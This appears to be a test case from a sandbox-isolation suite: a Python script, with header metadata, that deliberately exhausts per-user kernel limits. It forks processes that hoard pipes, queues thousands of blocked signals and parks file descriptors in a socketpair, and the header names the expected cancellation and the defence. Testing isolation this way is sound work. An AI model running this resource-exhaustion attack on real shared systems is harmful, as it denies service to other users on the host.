# attack: uses up what the kernel counts for each user: pipe pages, pending signals, descriptors in flight, locked memory
# family: between-runs
# pair: live
# expect: outcome OUTCOME_CANCELLED
# stops-it: host uid of its own for each live sandbox
import array
import os
import signal
import socket
import time

kept = []
for _ in range(12):
    # With those of all processes, more than the kernel gives to one user without making them smaller.
    if os.fork() == 0:
        try:
            while True:
                kept.append(os.pipe())
        except OSError:
            pass
        time.sleep(60)
        os._exit(0)
try:
    while len(kept) < 60:
        kept.append(os.pipe())
except OSError:
    pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(34, 65))
try:
    for number in range(20000):
        os.kill(os.getpid(), 34 + number % 30)
except OSError:
    pass
left, right = socket.socketpair()
fds = array.array("i", [fd for pipe in kept[:30] for fd in pipe])
try:
    left.setblocking(False)
    while True:
        left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
except OSError:
    pass
print("READY", flush=True)
time.sleep(60)
